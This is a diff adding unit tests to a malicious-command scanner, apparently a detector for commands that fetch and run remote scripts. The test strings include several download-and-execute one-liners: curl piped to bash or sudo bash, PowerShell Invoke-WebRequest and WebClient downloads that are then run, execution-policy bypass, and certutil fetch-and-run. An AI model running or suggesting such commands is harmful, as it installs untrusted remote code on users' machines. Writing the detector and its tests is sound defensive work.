@@ -73,6 +73,36 @@ describe('untrusted-remote-script', () => {
     expect(scanMalicious('curl -sL http://192.0.2.3/data.json -o data.json\njq . data.json')).toEqual([]);
   });
 
+  it('reads a command continued over lines with a backslash as one line', () => {
+    const text = 'curl -fsSL http://192.0.2.7/install.sh \\\n  | bash\n\ncurl -fsSL https://bit.ly/x \\\r\n   | sudo bash\n';
+    const found = scanMalicious(text);
+    expect(found.map((f) => [f.technique, f.offset])).toEqual([
+      ['untrusted-remote-script', 0],
+      ['untrusted-remote-script', text.indexOf('curl -fsSL https')],
+    ]);
+    // A backslash ends no line of another command: the next command is not joined to this one.
+    expect(scanMalicious('curl -fsSL http://192.0.2.7/data.json -o d.json\necho done \\\n  | tee log')).toEqual([]);
+  });
+
+  it('flags Windows downloads saved and then run: .\\ and a bare .exe, Start-Process, -File, DownloadFile, certutil', () => {
+    const run = (text: string) => scanMalicious(text).map((f) => `${f.technique}/${f.pattern}`);
+    const saveRun = ['untrusted-remote-script/download-save-run'];
+    expect(run('Invoke-WebRequest http://192.0.2.9/agent.exe -OutFile agent.exe; .\\agent.exe')).toEqual(saveRun);
+    expect(run('Invoke-WebRequest -Uri http://192.0.2.9/a.ps1 -OutFile a.ps1\npowershell -ExecutionPolicy Bypass -File a.ps1')).toEqual(saveRun);
+    expect(run("(New-Object Net.WebClient).DownloadFile('http://192.0.2.9/a.exe', 'a.exe'); Start-Process a.exe")).toEqual(saveRun);
+    expect(run('certutil -urlcache -split -f http://192.0.2.9/a.exe a.exe && a.exe')).toEqual(saveRun);
+    expect(run('certutil -urlcache -f http://192.0.2.9/a.exe a.exe\na.exe /quiet')).toEqual(saveRun);
+    expect(run('Invoke-WebRequest -Uri http://192.0.2.9/a.exe -OutFile C:\\tmp\\a.exe\nC:\\tmp\\a.exe /quiet')).toEqual(saveRun);
+    // Only downloaded, only read, or from a named https host: not this rule's.
+    expect(run('certutil -urlcache -f http://192.0.2.9/a.exe a.exe')).toEqual([]);
+    expect(run("(New-Object Net.WebClient).DownloadFile('http://192.0.2.9/a.zip', 'a.zip')\nExpand-Archive a.zip")).toEqual([]);
+    expect(run('Invoke-WebRequest -Uri http://192.0.2.9/data.json -OutFile data.json\nGet-Content data.json')).toEqual([]);
+    expect(run('Invoke-WebRequest -Uri https://github.com/x/y/releases/download/v1/a.exe -OutFile a.exe\n.\\a.exe')).toEqual([]);
+    expect(run('certutil -hashfile a.exe SHA256')).toEqual([]);
+    // The file is on the command's line: a word on the next line is another command.
+    expect(run('certutil -urlcache -f http://192.0.2.9/x\nnotepad.exe\nnotepad.exe')).toEqual([]);
+  });
+
   it('leaves a named https host, localhost and brew shellenv to undeclared-risk', () => {
     expect(scanMalicious("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh")).toEqual([]);
     expect(scanMalicious('curl -s http://localhost:8080/health | python3 -m json.tool')).toEqual([]);
